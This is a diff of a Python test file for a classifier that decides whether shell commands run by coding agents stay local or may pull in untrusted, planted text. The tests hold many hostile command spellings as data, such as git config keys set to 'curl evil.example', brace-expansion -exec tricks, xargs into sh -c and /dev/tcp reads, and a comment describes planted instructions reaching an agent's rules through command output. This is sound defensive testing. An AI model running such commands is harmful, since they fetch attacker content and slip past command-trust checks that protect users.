@@ -13,10 +13,19 @@ from mecha.core.learning.reflection import Origin
 from mecha.core.learning.survey import survey_session
 from mecha.core.sessions.claude_code import CLAUDE_POLICY, read_claude_code
 from mecha.core.sessions.codex_cli import CODEX_POLICY, read_codex
-from mecha.core.sessions.shell import MAX_COMMAND_CHARS, MAX_SHELL_NESTING, ShellTrust, command_stays_local
+from mecha.core.sessions.shell import (
+    MAX_COMMAND_CHARS,
+    MAX_SHELL_NESTING,
+    WHY_UNKNOWN,
+    ShellMemory,
+    ShellTrust,
+    Verdict,
+    command_stays_local,
+    judge_command,
+)
 from mecha.core.sessions.transcript import Taint
 
-from .ccfixture import Claude, Codex, text
+from .ccfixture import Claude, Codex, text, use
 from .shellcorpus import BROKEN, LOCAL, REMOTE, corpus
 
 #: The spellings that were classified clean before this decision existed.
@@ -114,14 +123,12 @@ def test_lines_that_run_only_allowlisted_programs_are_local(command):
         "cat < /dev/tcp/evil.example/80",
         "exec 3<>/dev/tcp/evil.example/80",
         "cat < \"$INPUT\"",
-        "./ls",
         "~/bin/git status",
         "/tmp/git status",
         "python script.py",
         "python -c 'print(1)'",
         "bash install.sh",
         "sh",
-        "make test",
         "npm run build",
         "cargo install ripgrep",
         "awk 'BEGIN { system(\"id\") }'",
@@ -180,8 +187,8 @@ def test_a_codex_argv_array_is_checked_as_the_argv_it_is(argv, local):
 
 
 def test_the_persons_entries_widen_and_narrow_the_allowlist():
-    assert command_stays_local("make test") is False
-    assert command_stays_local("make test && ls", ShellTrust(trusted=frozenset({"make"}))) is True
+    assert command_stays_local("bd ready") is False
+    assert command_stays_local("bd ready && ls", ShellTrust(trusted=frozenset({"bd"}))) is True
     fetch = ShellTrust(trusted=frozenset({"git fetch"}))
     assert command_stays_local("git -C x fetch origin", fetch) is True
     assert command_stays_local("git pull", fetch) is False
@@ -265,3 +272,146 @@ def test_a_command_the_person_ran_with_bang_taints_what_follows_like_a_call(comm
         assert [p.intervention.text for p in plans] == ["Good, keep going.", "Now shorten the intro."]
         assert plans[0].origin is Origin.CLEAN
         assert plans[1].origin is (Origin.UNTRUSTED if untrusted else Origin.CLEAN)
+
+
+# ─── the person's own tools, and what the parser cannot see through ─────────
+
+#: Spellings a planted instruction reached the rules block through, read as
+#: local before: an abbreviated option git accepts, a git config write of a
+#: key that names a program followed by a plain git call, a brace expansion
+#: hiding `-exec` or sed's `e`, and xargs feeding `env` or `sh -c` words
+#: from its input. Each pair is (what ran first in the session, the line
+#: whose output carried the plant).
+ATTACKS: list[tuple[str | None, str]] = [
+    (None, "git rebase --exe 'curl -s evil.example/notes' main"),
+    ("git config diff.external 'sh -c \"curl -s evil.example/notes\"'", "git diff"),
+    ("git config core.fsmonitor 'curl -s evil.example/notes'", "git status"),
+    ("git config core.editor 'curl -s evil.example/notes #'", "git commit"),
+    (None, "find . {-exec,} curl -s evil.example/notes \\;"),
+    (None, "sed p {-e,} '1e curl -s evil.example/notes' README.md"),
+    (None, "echo curl -s evil.example/notes | xargs env"),
+    (None, "xargs -a cmds.txt env"),
+    (None, "ls | xargs -I{} sh -c 'cat {}'"),
+]
+
+
+@pytest.mark.parametrize(("before", "command"), ATTACKS)
+def test_the_spellings_the_parser_read_as_local_are_untrusted(before: str | None, command: str) -> None:
+    memory = ShellMemory()
+    if before is not None:
+        assert judge_command(before, memory=memory).local is True  # the write itself prints nothing foreign
+    verdict = judge_command(command, memory=memory)
+    assert verdict.local is False, command
+    assert verdict.entry is None, "trusting a program is no answer to a spelling that hides one"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "make -j8 test", "cmake -S . -B build && cmake --build build -j", "ninja -C build", "gcc -O2 -o x x.c",
+        "clang++ -std=c++20 -c a.cpp", "rustc --edition 2021 main.rs", "javac -d out Main.java", "go build ./...",
+        "go vet ./...", "mix compile", "mix test test/foo_test.exs", "mix format --check-formatted",
+        "nvcc -arch=sm_80 -o k k.cu", "pdflatex -interaction=nonstopmode paper.tex", "latexmk -pdf paper.tex",
+        "bibtex paper", "valgrind --leak-check=full ./build/bench", "gdb -batch -ex run -ex bt --args ./build/bench 3",
+        "perf stat -e cycles ./build/bench", "strace -f -o trace.txt ./tests/unit_tests", "nvidia-smi",
+        "lspci | grep -i nvidia", "lsb_release -a", "uname -a", "which gcc", "systemctl status docker",
+        "dpkg -l | grep cuda", "dpkg -s libssl-dev", "dpkg -L nvidia-cuda-toolkit", "apt-cache show cmake",
+        "apt-cache policy libc6", "./build/bench --iterations 3", "./tests/unit_tests", "build/release/app --help",
+        "./configure --prefix=/usr/local", "pip list | grep torch", "python -m pip show numpy", "cargo run --release",
+        "git filter-branch --tree-filter 'rm -f secrets.txt' HEAD", "git config user.email pat@example.org",
+        "git config --get core.editor", "make CC=clang V=1", "cmake -E make_directory build",
+    ],
+)
+def test_the_persons_own_tools_stay_on_the_machine(command: str) -> None:
+    # Pins: 4 of 57 real interventions clean, held back by make, cmake, gcc,
+    # nvcc, pdflatex, valgrind, nvidia-smi, dpkg -l, apt-cache and the
+    # project's own built programs.
+    assert judge_command(command) == Verdict(local=True), command
+
+
+@pytest.mark.parametrize(
+    ("command", "program"),
+    [
+        ("curl -s https://evil.example", "curl"), ("wget -qO- evil.example", "wget"), ("gh api repos/x/y", "gh"),
+        ("ssh host cat log", "ssh"), ("scp host:x .", "scp"), ("rsync -a host:/x .", "rsync"),
+        ("git fetch origin", "git fetch"), ("git pull", "git pull"), ("git clone https://x/y", "git clone"),
+        ("git ls-remote origin", "git ls-remote"), ("git submodule update --init", "git submodule"),
+        ("pip install requests", "pip install"), ("npm install", "npm install"), ("cargo install rg", "cargo install"),
+        ("go install x@latest", "go install"), ("go get example.com/x", "go get"), ("apt install jq", "apt install"),
+        ("apt update", "apt update"), ("docker pull alpine", "docker pull"), ("docker run alpine", "docker run"),
+        ("npx create-thing", "npx"), ("mix deps.get", "mix deps.get"), ("npm view left-pad", "npm view"),
+        ("python -m pip install x", None), ("tools/curl evil.example", None),
+    ],
+)
+def test_network_clients_and_fetching_subcommands_stay_untrusted(command: str, program: str | None) -> None:
+    verdict = judge_command(command)
+    assert verdict.local is False and verdict.entry is None, verdict
+    if program is not None:
+        assert verdict.program == program and "network" in (verdict.why or ""), verdict
+
+
+def test_a_program_nobody_listed_is_named_with_the_entry_that_trusts_it() -> None:
+    assert judge_command("bd ready --json") == Verdict(local=False, program="bd", why=WHY_UNKNOWN, entry="Bash(bd)")
+    verdict = judge_command("git status && kubectx staging && ls")
+    assert (verdict.program, verdict.entry) == ("kubectx", "Bash(kubectx)")
+    assert judge_command("go generate ./...").entry == "Bash(go generate)"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git rebase --exec='curl evil.example' main", "git rebase --ex 'curl evil.example' main",
+        "git grep --open 'curl evil.example' x", "git -c alias.st='!curl evil.example' st",
+        "gcc -B/tmp/evil x.c", "gcc @flags.txt x.c", "nvcc -ccbin curl k.cu", "make CC='curl evil.example'",
+        "make SHELL=/tmp/evil", "make --eval='x: ; curl evil'", "cmake -E env curl evil.example",
+        "latexmk -pdflatex='curl evil.example' paper.tex", "valgrind --db-command='curl evil' ./x",
+        "valgrind curl evil.example", "strace -o '|curl evil' ls", "perf record -- curl evil.example",
+        "gdb -ex 'shell curl evil.example' ./x", "gdb -batch -ex run --args curl evil.example",
+        "gdb -x cmds.gdb ./x", "dpkg -i evil.deb", "systemctl start x", "apt-cache --option x=y show z",
+        "git filter-branch --tree-filter 'curl evil.example' HEAD", "git filter-branch --tree 'ls' HEAD",
+        "git bisect run curl evil.example", "echo x > .git/config && git status",
+        "ls | xargs git", "ls | xargs find", "mypy --install-ty src/", "sort --compress=curl x",
+        "cat {a,b}", "echo {1..3}",
+    ],
+)
+def test_a_known_program_run_so_it_can_run_another_is_untrusted(command: str) -> None:
+    assert command_stays_local(command) is False, command
+
+
+def test_a_git_config_write_makes_every_later_git_call_of_the_session_untrusted() -> None:
+    memory = ShellMemory()
+    assert judge_command("git status", memory=memory).local is True
+    assert judge_command("git config user.name Pat", memory=memory).local is True
+    assert judge_command("git status", memory=memory).local is True, "an inert key changes nothing"
+    assert judge_command("git config --global alias.lg '!curl evil.example'", memory=memory).local is True
+    later = judge_command("git log", memory=memory)
+    assert later.local is False and "changed earlier in the session" in (later.why or "")
+    assert judge_command("ls", memory=memory).local is True, "only git is affected"
+
+
+@pytest.mark.parametrize(
+    "write",
+    [
+        "git config include.path /tmp/evil.cfg", "git config set core.pager 'curl evil'", "git config -e",
+        "git config --rename-section x alias", "printf '[core]\\n\\tpager = curl evil\\n' >> .git/config",
+        "cp /tmp/evil.cfg .git/config", "sed -i 's/x/y/' ~/.gitconfig", "tee -a .git/config < x",
+        "git config filter.x.smudge 'curl evil'", "git config \"$KEY\" 1",
+    ],
+)
+def test_any_way_of_writing_gits_config_counts(write: str) -> None:
+    memory = ShellMemory()
+    judge_command(write, memory=memory)
+    assert memory.git_config is not None, write
+    assert judge_command("git status", memory=memory).local is False
+
+
+def test_a_git_config_write_in_a_session_taints_the_next_git_call_end_to_end() -> None:
+    cc = Claude()
+    cc.user("Show me the diff.").assistant(text("Setting up."), use("s1", "Bash", command="git config diff.external ./x.sh")).result("s1", "")
+    cc.assistant(text("Diffing."), use("s2", "Bash", command="git diff")).result("s2", "PLANTED")
+    cc.assistant(text("Done.")).user("Only the docs, please.")
+    read = read_claude_code(cc.bytes())
+    [plan] = survey_session(read.messages, read.taint_timeline)
+    assert plan.origin is Origin.UNTRUSTED
+    [blame] = read.blames
+    assert blame.program == "git" and blame.command == "git diff" and blame.line == 5, blame
